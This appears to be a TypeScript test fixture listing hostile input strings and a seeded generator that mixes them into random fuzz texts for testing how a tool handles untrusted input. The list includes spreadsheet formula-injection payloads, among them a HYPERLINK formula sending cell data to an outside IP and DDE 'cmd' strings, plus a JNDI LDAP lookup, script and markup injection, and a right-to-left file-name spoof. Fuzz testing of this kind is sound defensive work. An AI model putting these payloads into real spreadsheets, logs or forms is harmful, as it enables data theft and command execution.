import { createSeededRandom } from '../../../collector/random/seeded-random.ts';

/** What people and machines paste: formulas, markup, control characters, halves of pairs, turned text. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://198.51.100.9/?"&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1＋1',
  '<script>alert(1)</script><b>粗</b>',
  '</w:t></w:r><w:r><w:t>注入',
  ']]>&amp;&#0;&lt;',
  '\u0000\u0001\u0008\u000b\u001f\u007f\u009f',
  '\ud800 单独的高位 \udfff',
  '\uffff\ufffe\ufdd0',
  'exe\u202egnp.附件',
  '😀👨‍👩‍👧 𠅤 \u{30ede}',
  '%s %n ${jndi:ldap://198.51.100.9/a} {{7*7}}',
  'A'.repeat(300),
  "'=1",
  '_x0041_ _x000D_',
];

/** Pseudo-random texts out of the same matter, the same for the same seed. */
export function randomTexts(seed: number, count: number): string[] {
  const { int: next } = createSeededRandom(seed);
  const unit = () => {
    switch (next(6)) {
      case 0:
        return String.fromCharCode(next(0x10000));
      case 1:
        return String.fromCharCode(next(0x20));
      case 2:
        return String.fromCodePoint(next(0x110000));
      case 3:
        return hostileTexts[next(hostileTexts.length)] ?? '';
      case 4:
        return String.fromCodePoint(0x4e00 + next(0x5000));
      default:
        return '=+-@<>&"\'\n\t '[next(12)] ?? '';
    }
  };
  return Array.from({ length: count }, () => Array.from({ length: next(12) + 1 }, unit).join(''));
}
